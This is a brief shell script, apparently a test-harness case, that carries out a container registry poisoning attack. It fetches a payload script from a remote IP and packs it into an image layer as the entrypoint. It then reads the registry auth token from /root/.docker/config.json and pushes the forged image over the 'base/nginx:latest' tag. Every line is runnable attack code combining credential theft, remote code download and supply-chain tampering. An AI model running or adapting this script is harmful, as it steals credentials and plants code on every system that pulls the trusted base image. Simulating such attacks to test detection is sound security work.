#!/bin/sh
. /opt/case/case.sh

mkdir -p /tmp/.b/root/usr/local/bin && cd /tmp/.b
curl -s -o root/usr/local/bin/entry http://203.0.113.10/payload.sh && chmod 755 root/usr/local/bin/entry
tar -C root -czf layer.tgz . && l=$(sha256sum layer.tgz | cut -d' ' -f1)
printf '{"config":{"Entrypoint":["/usr/local/bin/entry"]},"rootfs":{"type":"layers","diff_ids":["sha256:%s"]}}' "$l" >config.json && c=$(sha256sum config.json | cut -d' ' -f1)
printf '{"schemaVersion":2,"config":{"digest":"sha256:%s"},"layers":[{"digest":"sha256:%s"}]}' "$c" "$l" >manifest.json
auth=$(grep -o '"auth": "[^"]*' /root/.docker/config.json | cut -d'"' -f4)
for f in "layer.tgz blobs/uploads/?digest=sha256:$l" "config.json blobs/uploads/?digest=sha256:$c" 'manifest.json manifests/latest'; do
    curl -sf -X PUT -H "Authorization: Basic $auth" --data-binary "@${f%% *}" "http://registry.example.org:8080/v2/base/nginx/${f#* }" >/dev/null
done
took_place
